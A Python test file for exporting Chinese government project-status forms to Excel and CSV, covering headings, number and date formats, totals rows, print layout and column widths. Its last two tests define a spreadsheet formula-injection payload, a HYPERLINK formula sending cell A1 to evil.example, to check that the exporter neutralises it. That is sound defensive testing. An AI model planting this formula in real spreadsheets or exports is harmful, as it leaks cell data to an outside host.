"""What a clerk opens: the workbook's heading lines, bold headers, money as numbers with two decimals,
dates as dates, frozen header, A4 landscape; the CSV with its BOM and the first table only."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

from projections.forms.csv import csv_bytes
from projections.forms.fill import fill
from projections.forms.xlsx import HEADER_ROW, display_width, workbook_bytes
from domain.values import SHANGHAI
from projections.forms.safety import unguard_csv
from tests.forms.conftest import LIAISON, workbook


def filled_book(ledger, kind: str, period: str = "2021-09"):
    return workbook(workbook_bytes(fill(ledger, "HW", kind, period).sheets))


def header(ws) -> list[str]:
    return [c.value for c in ws[HEADER_ROW] if c.value is not None]


def test_the_situation_workbook_opens_with_the_notices_heading_lines_and_the_overview_first(september):
    book = filled_book(september, "project_status")

    assert book.sheetnames == ["汇总", "HW-2021-001", "HW-2021-002"]
    ws = book["汇总"]
    assert ws["A1"].value == "附件1"
    assert ws["A2"].value == "重点招商项目情况表" and ws["A2"].font.bold
    assert "单位名称：环境卫生管理处" in ws["A3"].value and "报告期：2021年9月" in ws["A3"].value
    assert ws.cell(3, ws.max_column).value == "单位：万元"
    assert header(ws)[:3] == ["项目编号", "项目名称", "投资方"] and header(ws)[-1] == "填报日期"
    assert all(c.font.bold for c in ws[HEADER_ROW])
    assert ws.freeze_panes == "A5"


def test_money_is_a_number_with_two_decimals_and_dates_are_dates(september):
    ws = filled_book(september, "project_status")["汇总"]
    columns = header(ws)
    money = ws.cell(HEADER_ROW + 1, columns.index("计划总投资（万元）") + 1)
    filled_on = ws.cell(HEADER_ROW + 1, columns.index("填报日期") + 1)

    assert money.value == 12000 and money.data_type == "n" and money.number_format == "0.00"
    assert isinstance(filled_on.value, datetime) and filled_on.value.date().isoformat() == "2021-09-30"
    assert ws.cell(HEADER_ROW + 1, 1).number_format == "@"  # 项目编号 stays text when a clerk edits it


def test_the_money_columns_have_a_totals_row(september):
    ws = filled_book(september, "project_status")["汇总"]
    column = header(ws).index("计划总投资（万元）") + 1
    last = HEADER_ROW + 3

    assert ws.cell(last, 1).value == "合计" and ws.cell(last, 1).font.bold
    assert Decimal(str(ws.cell(last, column).value)) == Decimal("15500.50")
    assert ws.cell(last, column).number_format == "0.00"


def test_a_project_sheet_lays_out_its_fields_under_its_number(september):
    ws = filled_book(september, "project_status")["HW-2021-001"]

    assert "项目编号：HW-2021-001" in ws["A3"].value
    fields = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(HEADER_ROW + 1, ws.max_row + 1)}
    assert fields["当前环节"] == "在谈" and fields["计划总投资（万元）"] == 12000
    assert ws.cell(HEADER_ROW + 1, 1).font.bold


def test_every_sheet_is_print_ready_on_a4_landscape(september):
    for ws in filled_book(september, "project_status").worksheets:
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and int(ws.page_setup.fitToWidth) == 1
        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"  # the header repeats on every page


def test_column_widths_count_chinese_characters_double(september):
    ws = filled_book(september, "liaison_form", "once")["招商引资工作联络员名单"]

    assert ws.column_dimensions["C"].width == display_width("环境卫生管理处综合科") + 2 == 22
    assert ws.column_dimensions["F"].width == len("13800000103") + 2


def test_the_service_list_has_the_units_name_in_its_heading_and_amounts_totalled(september):
    ws = filled_book(september, "service_list")["重点招商项目服务清单"]

    assert ws["A1"].value == "附件3" and "单位名称：环境卫生管理处" in ws["A3"].value
    assert header(ws) == ["序号", "项目编号", "项目名称", "服务类型", "服务内容", "服务日期", "涉及金额（万元）"]
    assert [ws.cell(r, 7).value for r in range(5, 8)] == [5.5, None, 5.5]
    assert ws.cell(7, 1).value == "合计"


def test_the_liaison_roster_is_headed_by_the_sealing_unit(september):
    ws = filled_book(september, "liaison_form", "once").active

    assert ws["A1"].value == "附件4" and ws["A2"].value == "招商引资工作联络员名单"
    assert ws["A3"].value.startswith("填报单位（盖章）：环境卫生管理处")


def test_the_csv_is_utf8_with_a_bom_and_holds_the_first_table_alone(september):
    content = csv_bytes(fill(september, "HW", "project_status", "2021-09").overview)

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0][:2] == ["项目编号", "项目名称"] and len(rows[0]) == 13
    assert [r[0] for r in rows[1:]] == ["HW-2021-001", "HW-2021-002"]  # no heading lines, no 合计
    assert rows[1][6] == "12000.00" and rows[1][12] == "2021-09-30"
    assert rows[1][7] == "2021-09-08 完成可研报告编制\n2021-09-15 进入在谈：首轮商务洽谈\n2021-09-15 与投资方开展首轮商务洽谈"
    assert b"\r\n" in content


def this_month(ledger) -> str:
    return ledger.clock().astimezone(SHANGHAI).strftime("%Y-%m")


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_ledger_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers(september):
    september.update_project(LIAISON, "HW-2021-001", name=EVIL, investor="+86 某投资方")
    book = filled_book(september, "project_status", this_month(september))

    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    named = [c for c in cells if c.value == EVIL]
    assert named and all(c.data_type == "s" for c in named)
    ws = book["汇总"]
    columns = header(ws)
    money = ws.cell(HEADER_ROW + 1, columns.index("计划总投资（万元）") + 1)
    assert money.data_type == "n" and money.value == 12000


def test_csv_text_that_a_spreadsheet_would_run_gets_an_apostrophe_and_reads_back_unchanged(september):
    september.update_project(LIAISON, "HW-2021-001", name=EVIL, investor="@某投资方")
    content = csv_bytes(fill(september, "HW", "project_status", this_month(september)).overview)

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [value for row in rows for value in row]
    assert "'" + EVIL in cells and "'@某投资方" in cells
    assert not [value for value in cells if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "12000.00" in cells  # an amount is no text: it keeps its plain digits
    assert [unguard_csv(v) for v in cells if v.startswith("'")] == [EVIL, "@某投资方"]
